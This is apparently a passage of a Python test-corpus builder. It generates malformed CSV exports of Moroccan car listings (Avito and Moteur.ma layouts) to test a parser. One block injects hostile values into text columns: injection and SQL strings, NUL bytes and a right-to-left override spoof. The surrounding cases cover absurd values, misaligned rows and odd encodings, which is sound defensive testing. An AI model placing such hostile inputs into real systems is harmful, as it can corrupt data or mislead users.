        "Title": ad.title, "Price_Raw": f"{ad.price_dh:,} DH".replace(",", "\u202f"),
        "Année-Modèle": str(ad.year), "Boite de vitesses": ad.gearbox or "", "Type de carburant": ad.fuel,
        "Kilométrage": str(ad.mileage_km), "Marque": ad.brand, "Modèle": ad.model,
        "Nombre de portes": str(ad.doors or ""), "Origine": ad.origin, "Première main": "Oui" if ad.first_owner else "Non",
        "Puissance fiscale": f"{ad.fiscal_power} CV" if ad.fiscal_power else "", "État": ad.condition,
    }
    row.update(overrides)
    return [row[h] for h in AVITO_2026_HEADER]


def _avito_2024_row(rng: random.Random, ad: Listing, **overrides) -> list[str]:
    low = ad.mileage_km // 10_000 * 10_000
    row = {
        "nom_proprietaire": ad.seller_name, "carburant": ad.fuel, "boite_vitesse": ad.gearbox or "N/A",
        "puissance_fiscale": f"{ad.fiscal_power or 6} CV", "kilometrage": f"{low:,} - {low + 9_999:,}".replace(",", " "),
        "secteur": ad.sector or "Autre secteur", "premiere_main": "Oui" if ad.first_owner else "Non",
        "marque": ad.brand, "etat": ad.condition, "annee_modele": str(ad.year), "origine": ad.origin,
        "nombre_de_portes": str(ad.doors or 5), "type_vehicule": "Voitures d'occasion, à vendre",
        "prix": f"{ad.price_dh:,} DH".replace(",", "\u202f"),
    }
    row.update(overrides)
    return [row[h] for h in AVITO_2024_HEADER]


def _moteur_struct_row(rng: random.Random, ad: Listing, **overrides) -> list[str]:
    row = {
        "voiture": f"{ad.brand.upper()} {ad.model}", "prix-dh": str(ad.price_dh), "lieu": ad.city,
        "kilometrage": str(ad.mileage_km), "annee-pub": str(ad.year), "boite-vitesses": ad.gearbox or "n/d",
        "carburant": ad.fuel, "date": rng.choice(("03/09/2024", "07/03/2024", "03/12/2024", "2024-03-08")),
        "puissance-fiscale": str(ad.fiscal_power or 0),
        "lien": f"https://www.moteur.ma/fr/voiture/achat-voiture-occasion/detail-annonce/{ad.listing_id}/x.html",
    }
    row.update(overrides)
    return [row[h] for h in MOTEUR_STRUCT_HEADER]


def _moteur_cards_row(rng: random.Random, ad: Listing, index: int, **overrides) -> list[str]:
    row = {
        "": str(index), "nom": f"{ad.brand.upper()}\u00a0\u00a0{ad.model}", "version": "",
        "price": f"{ad.price_dh:,} Dhs".replace(",", " "), "model": str(ad.year), "localisation": ad.city,
        "carburant": ad.fuel,
    }
    row.update(overrides)
    return [row[h] for h in MOTEUR_CARDS_HEADER]


def _csv_cases(b: CorpusBuilder, rng: random.Random) -> None:  # noqa: C901 (a catalogue)
    def ads(source: str, n: int) -> list[Listing]:
        return [rng.choice(b.pool[source]) for _ in range(n)]

    def avito26(n: int = 5, **overrides) -> list[list[str]]:
        return [_avito_2026_row(rng, ad, **overrides) for ad in ads("avito", n)]

    hostile_values = [*INJECTIONS, *SQL_STRINGS, *ARABIC, mojibake("Société Générale"), "\x00\x01", "\u202e" + "evil"]
    # 1. hostile text in every text column of the 2026 Avito layout
    for value in hostile_values:
        for column in ("Title", "Marque", "Modèle"):
            b.csv("hostile_text", AVITO_2026_HEADER, avito26(3, **{column: value}))
    # 2. absurd values (SOURCE.md: 1 DH, 661,669,557 DH, 999999 km, 0 km, 150 km)
    for column, value in (("Price_Raw", "1 DH"), ("Price_Raw", "661\u202f669\u202f557 DH"), ("Kilométrage", "999999"),
                          ("Kilométrage", "-5000"), ("Année-Modèle", "3024"), ("Année-Modèle", "1800"),
                          ("Kilométrage", "0"), ("Kilométrage", "150"), ("Price_Raw", "Demander le prix"),
                          ("Price_Raw", "0 DH"), ("Price_Raw", "-150 000 DH"), ("Année-Modèle", ""),
                          ("Price_Raw", "N/A"), ("Puissance fiscale", "9999 CV")):
        for _ in range(3):
            b.csv("absurd_values", AVITO_2026_HEADER, avito26(4, **{column: value}))
    # 3. misaligned columns: extra fields, missing fields, a shifted row, quoted newlines
    for _ in range(10):
        rows = avito26(5)
        rows[1] = rows[1] + ["surplus"]
        rows[3] = rows[3][:-4]
        b.csv("misaligned", AVITO_2026_HEADER, rows)
    for _ in range(6):
        rows = avito26(4)
        rows[2] = [""] + rows[2][:-1]  # everything one column to the right
        b.csv("misaligned", AVITO_2026_HEADER, rows)
    for _ in range(4):
        rows = avito26(4)
        rows[0][1] = "Golf 7\nTrès propre, \"full options\"\n, première main"
        b.csv("misaligned", AVITO_2026_HEADER, rows, raw_lines=['unterminated,"quote,never closed'])
    # 4. unknown headers: wholly unknown (refused loudly) or partly (extra columns ignored)
    for header in (["foo", "bar", "baz"], ["colonne 1", "colonne 2"], ["prix"], ["Marque", "Modèle", "Ville"],
                   ["titre", "description"], ["id", "name", "value", "timestamp"]):
        b.csv("unknown_headers", header, [[f"v{i}" for i in range(len(header))] for _ in range(3)])
    for _ in range(6):
        header = AVITO_2026_HEADER + ["Couleur", "Vendeur pro ?", "Équipements"]
        b.csv("unknown_headers", header, [r + ["Noir", "oui", "ABS;ESP"] for r in avito26(4)])
    # 5. the Avito 2024 export: BOM, buckets, 'N/A', '1980 ou plus ancien', no model, exact duplicates
    for _ in range(8):
        rows = [_avito_2024_row(rng, ad) for ad in ads("avito", 5)]
        rows[1][AVITO_2024_HEADER.index("annee_modele")] = "1980 ou plus ancien"
        rows[2][AVITO_2024_HEADER.index("prix")] = "N/A"
        rows[3][AVITO_2024_HEADER.index("carburant")] = "N/A"
        rows.append(list(rows[0]))  # an exact duplicate row
        b.csv("source_quirks", AVITO_2024_HEADER, rows)
    # 6. the Moteur struct export: mixed MM/DD and DD/MM, 'n/d' links, 0 CV, '37 Dhs', rows twice in two forms
    for _ in range(8):
        rows = [_moteur_struct_row(rng, ad) for ad in ads("moteur", 5)]
        rows[1][MOTEUR_STRUCT_HEADER.index("lien")] = "n/d"
        rows[2][MOTEUR_STRUCT_HEADER.index("prix-dh")] = "37 Dhs"
        rows[3][MOTEUR_STRUCT_HEADER.index("prix-dh")] = "420 000 Dhs"
        twin = list(rows[4])
        twin[MOTEUR_STRUCT_HEADER.index("date")] = "09/03/2024"
        rows.append(twin)  # the same ad again, converted differently
        b.csv("source_quirks", MOTEUR_STRUCT_HEADER, rows, bom=True)
    # 7. the Moteur card export: unnamed index, two NBSPs, glued version, shifted <li>, 'Appeler pour le prix'
    for _ in range(8):
        rows = [_moteur_cards_row(rng, ad, i) for i, ad in enumerate(ads("moteur", 6))]
        rows[1][MOTEUR_CARDS_HEADER.index("version")] = "C220"
        rows[1][MOTEUR_CARDS_HEADER.index("nom")] = "MERCEDES\u00a0\u00a0Classe cC220"
        rows[2][MOTEUR_CARDS_HEADER.index("localisation")] = "Diesel"
        rows[2][MOTEUR_CARDS_HEADER.index("carburant")] = "Afficher l'annonce"
        rows[3][MOTEUR_CARDS_HEADER.index("price")] = "Appeler pour le prix"
        rows[4][MOTEUR_CARDS_HEADER.index("price")] = "9 Dhs"
        rows.append([str(len(rows))] + rows[0][1:])  # a duplicate that differs only by its index
        b.csv("source_quirks", MOTEUR_CARDS_HEADER, rows)
    # 8. layouts and encodings: ';', no BOM, CRLF, Latin-1, UTF-16, NUL bytes, a repeated ad id
    for _ in range(4):
        b.csv("encodings", AVITO_2026_HEADER, avito26(4), delimiter=";")
        b.csv("encodings", AVITO_2026_HEADER, avito26(4), bom=False, newline="\r\n")
        b.csv("encodings", AVITO_2026_HEADER, avito26(4), encoding="latin-1")
        b.csv("encodings", AVITO_2026_HEADER, avito26(4), encoding="cp1252")
        rows = avito26(4)
        rows[1][AVITO_2026_HEADER.index("Title")] = "Dacia\x00Logan"
        b.csv("encodings", AVITO_2026_HEADER, rows)
        rows = avito26(4)
        rows[2][0] = rows[0][0]  # the same ad URL twice (the export repeats 3 URLs)
        b.csv("encodings", AVITO_2026_HEADER, rows)
    for _ in range(3):
        b.csv("encodings", AVITO_2026_HEADER, avito26(3), encoding="utf-16")
    # 9. nearly empty files
    b.csv("empty", AVITO_2026_HEADER, [])
    b.csv("empty", AVITO_2026_HEADER, [[""] * len(AVITO_2026_HEADER)] * 3)
    b.csv("empty", AVITO_2026_HEADER, [], raw_lines=["", "", ","])


def summary(builder: CorpusBuilder) -> dict[str, int]:
    """Cases per category and kind, for the report."""
    counts: dict[str, int] = {}
    for case in builder.page_cases:
        key = f"{case.category} ({case.source} {case.target})"
        counts[key] = counts.get(key, 0) + 1
    for case in builder.csv_cases:
        key = f"csv {case.category}"
        counts[key] = counts.get(key, 0) + 1
    return dict(sorted(counts.items()))
